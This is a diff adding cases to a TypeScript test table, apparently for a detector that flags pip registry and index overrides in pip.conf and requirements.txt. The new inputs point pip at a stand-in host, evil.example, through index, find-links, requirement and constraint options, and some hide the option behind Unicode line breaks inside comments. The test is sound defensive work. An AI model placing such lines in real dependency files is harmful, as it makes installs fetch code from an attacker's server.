@@ -38,6 +38,14 @@ test.each<[string, string, string[]]>([
   ['pip.conf', '[install]\nno-index = true\nproxy = evil.example:80', ['hook no-index true', 'hook proxy set']],
   ['pip.conf', '[global]\nnonsense\n', ['problem syntax']],
   ['pip.conf', '[global]\n# index-url = https://evil.example\ntimeout = 60\nrequire-hashes = true\n', []],
+  ['requirements.txt', '# c\u2028--index-url https://evil.example/s', ['registry --index-url https://evil.example']],
+  ['requirements.txt', '# c\u000b-ihttps://evil.example/s', ['registry --index-url https://evil.example']],
+  ['requirements.txt', '-fhttps://evil.example/s', ['registry --find-links https://evil.example']],
+  ['requirements.txt', '--pre --extra-ind "https://evil.example/s"', ['registry --extra-index-url https://evil.example']],
+  ['requirements.txt', '-r https://evil.example/r.txt', ['registry --requirement https://evil.example']],
+  ['requirements.txt', '-chttps://evil.example/r.txt', ['registry --constraint https://evil.example']],
+  ['requirements.txt', '-f wheels\n--no-index', ['hook --find-links wheels', 'hook --no-index true']],
+  ['requirements.txt', '# -f wheels\n-r base.txt\n-c c.txt\n--pre\ntorch==2.6.0 -i https://ignored.example', []],
 ])('%s: %j', (path, source, expected) => {
   expect(told(path, source).map((one) => one.replace(/set to [0-9a-f]{12}$/, 'set'))).toEqual(expected);
 });
